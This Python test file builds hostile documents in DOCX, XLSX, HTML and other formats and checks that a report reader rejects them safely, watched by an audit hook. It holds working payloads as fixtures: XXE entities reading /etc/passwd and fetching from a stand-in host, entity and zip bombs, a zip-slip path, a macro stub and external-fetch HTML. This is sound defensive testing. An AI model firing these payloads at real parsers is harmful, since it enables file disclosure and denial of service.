"""Files made to do harm: each is read or refused in Chinese, soon, and touches nothing but itself.

They are read in a process of their own with an audit hook on what it opens and whom it calls.
"""

import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from reading import pages, shapes
from reading.damage import FIGURES, SAMPLES

SECONDS = 10.0
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DTD = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://example.invalid/x.dtd">%b;]>'
BOMB = "<!DOCTYPE d [<!ENTITY a0 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
WATCH = """
import json, mimetypes, sys, time
from pathlib import Path
from drafting.reading import read_report
from drafting.errors import InputError

home, *paths = sys.argv[1:]
allowed = (home, sys.prefix, sys.base_prefix, str(Path(sys.modules["drafting"].__file__).parents[1]))
touched = []
mimetypes.init()  # openpyxl asks the machine once what it calls its types

def watch(event, arguments):
    if event == "open":
        name = str(arguments[0])
        writes = isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
        if writes or not name.startswith(allowed):
            touched.append(f"{event} {name} {arguments[1]}")
    elif event.startswith(("socket.connect", "socket.getaddrinfo", "urllib", "subprocess", "os.system", "os.exec")):
        touched.append(f"{event} {arguments}")

sys.addaudithook(watch)
for path in paths:
    begun, touched[:] = time.process_time(), []
    try:
        said = [read_report(Path(path)).title]
    except InputError as error:
        said = ["", error.message]
    print(json.dumps([Path(path).name, time.process_time() - begun, touched, *said]), flush=True)
"""


def package(data: bytes, changed: dict[str, bytes]) -> bytes:
    """The Office file with these parts in place of its own, or besides."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changed:
                new.writestr(name, old.read(name))
        for name, content in changed.items():
            new.writestr(name, content)
    return stream.getvalue()


def document(prologue: str, text: str) -> bytes:
    part = f'{prologue}<w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>'
    return package(SAMPLES[".docx"], {"word/document.xml": part.encode()})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def many_rows() -> str:
    return "<tr>" + "<td>1</td>" * 9 + "</tr>"


def nested(opening: str, closing: str, inner: str, depth: int) -> str:
    return opening * depth + inner + closing * depth


def with_markup(markup: str) -> bytes:
    return SAMPLES[".html"].replace(b"</body>", f"{markup}</body>".encode())


def encrypted() -> bytes:
    return pages.report(FIGURES, ruled=True, password="一二三")


HOSTILE: dict[str, Callable[[], bytes]] = {
    "外部实体.docx": lambda: document(DTD, paragraph("&a;")),
    "实体炸弹.docx": lambda: document(BOMB + "]>", paragraph("&a9;")),
    "外部实体.html": lambda: DTD.encode() + with_markup("&a;"),
    "实体炸弹.html": lambda: (BOMB + "]>").encode() + with_markup("&a9;"),
    "外部实体.xlsx": lambda: package(
        SAMPLES[".xlsx"],
        {"xl/workbook.xml": DTD.encode() + b"<workbook>&a;</workbook>"},
    ),
    "实体炸弹.xlsx": lambda: package(
        SAMPLES[".xlsx"], {"xl/sharedStrings.xml": f"{BOMB}]><sst><si><t>&a9;</t></si></sst>".encode()}
    ),
    "压缩炸弹.docx": lambda: package(SAMPLES[".docx"], {"word/document.xml": bytes(70 * 2**20)}),
    "压缩炸弹.xlsx": lambda: package(SAMPLES[".xlsx"], {"xl/media/image1.png": bytes(70 * 2**20)}),
    "路径出界.docx": lambda: package(SAMPLES[".docx"], {"../../../../tmp/nianbao-evil": b"x"}),
    "带宏.docx": lambda: package(SAMPLES[".docx"], {"word/vbaProject.bin": b"Sub AutoOpen()"}),
    "万行.html": lambda: with_markup(f"<table>{many_rows() * 10_000}</table>"),
    "万行.md": lambda: SAMPLES[".md"] + ("\n" + "|1" * 9 + "|").encode() * 10_000,
    "万行.docx": lambda: document(
        "",
        "<w:tbl>" + ("<w:tr>" + f"<w:tc>{paragraph('1')}</w:tc>" * 9 + "</w:tr>") * 10_000 + "</w:tbl>",
    ),
    "深层.html": lambda: with_markup(nested("<div>", "</div>", "x", 50_000)),
    "深层表格.html": lambda: with_markup(nested("<table><tr><td>", "</td></tr></table>", "x", 5_000)),
    "深层表格.docx": lambda: document(
        "", nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", paragraph("x"), 5_000)
    ),
    "跨万列.html": lambda: with_markup(
        '<table><tr><td colspan="100000000" rowspan="100000000">1</td></tr></table>'
    ),
    "跨万列.docx": lambda: document(
        "",
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>{paragraph("1")}</w:tc></w:tr></w:tbl>',
    ),
    "引用外部.html": lambda: with_markup(
        '<img src="http://example.invalid/a.png"><link rel="stylesheet" href="file:///etc/passwd">'
        '<iframe src="http://example.invalid/"></iframe><script>fetch("http://example.invalid/")</script>'
    ),
    "加密.pdf": encrypted,
    "超长一行.txt": lambda: SAMPLES[".txt"] + b"1 " * 2_000_000,
    "控制字符.txt": lambda: SAMPLES[".txt"] + bytes(range(1, 32)) * 10_000,
}


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list]:
    """What came of each file: its name, seconds, what it touched, the report's title, the message."""
    home = tmp_path_factory.mktemp("hostile")
    for name, make in HOSTILE.items():
        (home / name).write_bytes(make())
    run = subprocess.run(
        [sys.executable, "-c", WATCH, str(home), *(str(home / name) for name in HOSTILE)],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
        cwd=Path(__file__).parents[2],
    )
    assert run.returncode == 0, run.stderr
    return {line[0]: line[1:] for line in map(json.loads, run.stdout.splitlines())}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_read_or_refused_and_touches_nothing(seen, name):
    seconds, touched, title, *message = seen[name]
    assert seconds < SECONDS
    assert touched == []
    assert title.startswith(shapes.ORGAN) or message[0].endswith("。")


@pytest.mark.parametrize(
    ("name", "said"),
    [("压缩炸弹.docx", "过大"), ("压缩炸弹.xlsx", "解压后超过"), ("加密.pdf", "密码")],
)
def test_the_reason_is_said(seen, name, said):
    assert said in seen[name][3]
